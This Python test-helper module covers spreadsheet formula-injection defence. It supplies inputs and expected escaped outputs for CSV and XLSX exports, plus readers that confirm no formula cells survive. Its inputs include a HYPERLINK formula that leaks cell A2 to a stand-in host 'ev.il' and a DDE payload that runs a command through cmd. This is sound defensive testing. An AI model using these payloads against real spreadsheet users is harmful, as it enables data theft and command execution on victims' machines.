"""Formula-injection strings and readers of exported files, shared by the tests of every export."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from defusedxml import ElementTree
from openpyxl import Workbook, load_workbook

# Short enough for the tightest field it is typed into (a project number: 40 characters).
LINK = '=HYPERLINK("http://ev.il/?"&A2,"確認")'
DDE = "=cmd|' /C calc'!A0"
SHEET_NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"

# (what an applicant types, what an export must show). Full-width "＝" is not a formula to Excel
# or LibreOffice (LibreOffice's CSV import with formula evaluation on keeps it as text), so it is
# left as typed; a value already starting with an apostrophe is text and is not prefixed twice;
# "#N/A" is text, not an error cell.
CORPUS = [
    pytest.param("=1+1", "'=1+1", id="equals"),
    pytest.param("+1", "'+1", id="plus"),
    pytest.param("-1+2", "'-1+2", id="minus"),
    pytest.param("@SUM(A1)", "'@SUM(A1)", id="at"),
    pytest.param("\t=1", "'\t=1", id="tab"),
    pytest.param("\r=1", "'\r=1", id="carriage-return"),
    pytest.param(LINK, "'" + LINK, id="hyperlink"),
    pytest.param(DDE, "'" + DDE, id="dde"),
    pytest.param(" =1+1", "' =1+1", id="space-then-equals"),
    pytest.param("\u3000-1", "'\u3000-1", id="ideographic-space-then-minus"),
    pytest.param("＝1+1", "＝1+1", id="full-width-equals"),
    pytest.param("'=already", "'=already", id="already-quoted"),
    pytest.param("#N/A", "#N/A", id="error-code"),
]
CORPUS_VALUES = [(param.values[0], param.values[1]) for param in CORPUS]


def csv_rows(content: bytes) -> list[list[str]]:
    """The rows of an exported CSV, which is UTF-8 with a BOM and CRLF line ends."""
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def formula_free_workbook(content: bytes) -> Workbook:
    """The workbook, once no sheet's XML holds a formula (``<f>``) or an error cell (``t="e"``)."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            root = ElementTree.fromstring(archive.read(name))
            assert list(root.iter(f"{SHEET_NS}f")) == [], name
            assert [c.get("r") for c in root.iter(f"{SHEET_NS}c") if c.get("t") in ("e", "str")] == [], name
    return load_workbook(io.BytesIO(content))


def text_cells(workbook: Workbook, value: str) -> list[tuple[str, str]]:
    """(sheet title, data type) of every cell holding exactly ``value``."""
    return [
        (sheet.title, cell.data_type)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == value
    ]
